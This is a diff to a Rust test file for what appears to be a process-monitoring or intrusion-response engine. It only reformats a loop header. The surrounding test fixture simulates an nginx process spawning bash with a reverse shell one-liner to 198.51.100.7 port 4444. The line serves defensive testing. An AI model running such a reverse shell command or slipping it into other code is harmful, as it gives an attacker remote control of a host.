@@ -162,7 +162,8 @@ fn a_node_application_that_runs_a_helper_is_never_acted_on_alone() {
 
 #[test]
 fn a_loss_in_the_story_takes_the_last_word_from_the_agent() {
-    for (from, to, count, touched) in [(1, 2, 40, true), (-20, -10, 7, true), (2, 3, 0, true), (-500, -400, 9, false), (-20, -10, 0, false)] {
+    for (from, to, count, touched) in [(1, 2, 40, true), (-20, -10, 7, true), (2, 3, 0, true), (-500, -400, 9, false), (-20, -10, 0, false)]
+    {
         let mut bench = Bench::new();
         let nginx = process(812, "/usr/sbin/nginx", &["nginx"], None, Some(ServiceRole::WebServer));
         let shell = process(900, "/usr/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"], Some(&nginx), None);
